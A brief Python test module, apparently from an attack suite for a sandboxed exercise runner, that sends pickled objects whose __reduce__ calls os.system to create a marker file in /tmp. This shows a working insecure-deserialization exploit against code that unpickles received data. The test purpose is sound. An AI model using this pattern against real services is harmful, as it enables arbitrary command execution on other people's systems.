"""Sends a pickle, for whoever calls recv() in place of recv_bytes()."""

from attacks import PIPE

EXERCISE = "start-greet"
CELL = (
    PIPE
    + r"""
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)
for _ in range(5):
    send(pickle.dumps(Bomb()))
"""
)
